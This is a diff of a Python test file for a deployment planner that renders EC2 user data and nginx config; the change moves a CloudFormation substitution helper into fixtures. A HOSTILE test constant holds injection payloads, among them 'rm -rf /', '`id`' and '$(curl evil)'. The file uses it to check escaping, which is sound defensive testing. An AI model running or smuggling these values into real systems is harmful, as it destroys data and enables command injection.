@@ -3,7 +3,6 @@ user data they produce, the nginx config, hostile values on the way into a conta
 choices made between candidates."""
 
 import json
-import re
 import shutil
 import subprocess
 from pathlib import Path
@@ -14,20 +13,11 @@ from hivemind.errors import PlanError
 from hivemind.models import PlanOverrides
 from hivemind.planning import docker, make_plan, node, static
 from hivemind.planning.tree import SourceTree
-from hivemind.templating import render_template
 from hivemind.templating.nginx import STATE_DIR, nginx_config
 from tests.fixtures.repos import CORPUS
+from tests.fixtures.userdata import instance_script, raw_user_data
 
 HOSTILE = "'\"; rm -rf / #${AWS::AccountId}\nINJECTED=1\n!Ref X `id` $(curl evil)"
-SUB_VALUES = {
-    "AWS::StackName": "s",
-    "AWS::Region": "us-east-1",
-    "SourceBucket": "b",
-    "SourceKey": "k",
-    "AppLogGroup": "lg",
-    "FailureLogBucket": "fb",
-    "FailureLogKey": "fk",
-}
 
 
 def write(root: Path, files: dict[str, str]) -> Path:
@@ -44,11 +34,7 @@ def plan_of(root: Path, environment: dict[str, str] | None = None, **overrides):
 
 def user_data(plan) -> str:
     """The script as CloudFormation's Fn::Sub leaves it for the instance."""
-    template = render_template(plan, deployment_id="d-1", stack_name="s")
-    script = template["Resources"]["WebInstance"]["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]
-    refs = set(re.findall(r"\$\{([^!}][^}]*)\}", script))
-    assert refs <= set(SUB_VALUES), refs  # only HiveMind's own references reach Fn::Sub
-    return re.sub(r"\$\{([^!}][^}]*)\}", lambda m: SUB_VALUES[m.group(1)], script).replace("${!", "${")
+    return instance_script(raw_user_data(plan))
 
 
 def writer(script: str, target: str) -> str:
